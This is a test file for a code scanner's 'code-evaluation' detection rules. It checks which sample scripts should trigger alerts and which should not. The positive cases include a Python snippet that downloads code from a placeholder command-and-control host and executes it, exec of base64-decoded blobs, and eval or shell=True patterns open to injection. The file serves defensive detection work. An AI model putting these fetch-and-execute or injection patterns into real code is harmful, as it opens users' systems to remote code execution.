import { describe } from 'vitest';
import { itFires, itStaysQuiet, withScript } from '../../../test/rule-cases.js';

describe('code-evaluation', () => {
  itFires([
    {
      name: 'python fetch+exec',
      files: withScript('a.py', 'import requests\npayload = requests.get("https://c2.example/p").text\nexec(payload)\n'),
      rule: 'EXEC_FETCHED_CODE',
      blocking: true,
    },
    {
      name: 'js fetch+eval',
      files: withScript('a.js', 'const r = await fetch(process.argv[2]);\neval(await r.text());\n'),
      rule: 'EXEC_FETCHED_CODE',
      blocking: true,
    },
    { name: 'exec(b64decode)', files: withScript('a.py', 'import base64\nexec(base64.b64decode(BLOB))\n'), rule: 'EXEC_OBFUSCATED_CODE', blocking: true },
    { name: 'eval of input', files: withScript('calc.py', 'def calc(expr):\n    return eval(expr)\n'), rule: 'CODE_DYNAMIC_EVAL', severity: 'HIGH' },
    { name: 'new Function', files: withScript('calc.js', 'export const run = (src) => new Function(src)();\n'), rule: 'CODE_DYNAMIC_EVAL' },
    {
      name: 'shell=True with variable',
      files: withScript('s.py', 'import subprocess\ndef go(cmd):\n    subprocess.run(cmd, shell=True)\n'),
      rule: 'CODE_SHELL_INJECTION',
      severity: 'MEDIUM',
    },
  ]);

  itStaysQuiet([
    { name: 'literal eval/exec', files: withScript('l.py', 'exec("x = 1")\nimport re\nre.compile("a+")\n') },
    { name: 'js regex exec', files: withScript('r.js', 'const m = /^#?([a-f\\d]{2})$/i.exec(hex);\n') },
  ]);
});
